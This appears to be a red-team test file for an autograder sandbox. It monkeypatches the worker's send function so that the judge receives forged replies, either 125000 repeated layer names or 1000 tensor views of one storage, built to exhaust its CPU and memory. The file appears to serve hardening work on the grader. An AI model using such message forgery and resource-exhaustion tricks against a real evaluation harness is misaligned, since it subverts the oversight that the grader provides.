"""Red team round 19: replies the judge sized its own work by. __MODE__ = "uncalled": the
gradients helper's reply lists one layer name 125000 times (one memoised text: 2 pickle bytes
each), and the judge's diagnosis compared every name with every other (minutes of its CPU).
"views": a module's state_dict() is 1000 views of one 1 MiB storage (a 1 MB reply: torch.save
writes the storage once); the judge sent it back in a request, where pickle writes each view's
whole storage again (2.4 GB of the judge's memory)."""

import sys

import torch

_worker = sys.modules["autograder.sandbox.inside.worker"]
_real_send = _worker.send
MODE = "__MODE__"


def _send(chan, message):
    value = message.get("value") if isinstance(message, dict) else None
    if MODE == "uncalled" and isinstance(value, dict) and "output_has_grad" in value:
        forged = {"output_has_grad": True, "args": [], "kwargs": {}, "params": {"a.x": None}}
        message = dict(message, value={**forged, "uncalled": ["a"] * 125000})
    if MODE == "views" and isinstance(value, dict) and "w_q.weight" in value:
        big = torch.zeros(2**18)
        message = dict(message, value={f"k{i}": big[:] for i in range(1000)})
    _real_send(chan, message)


_worker.send = _send
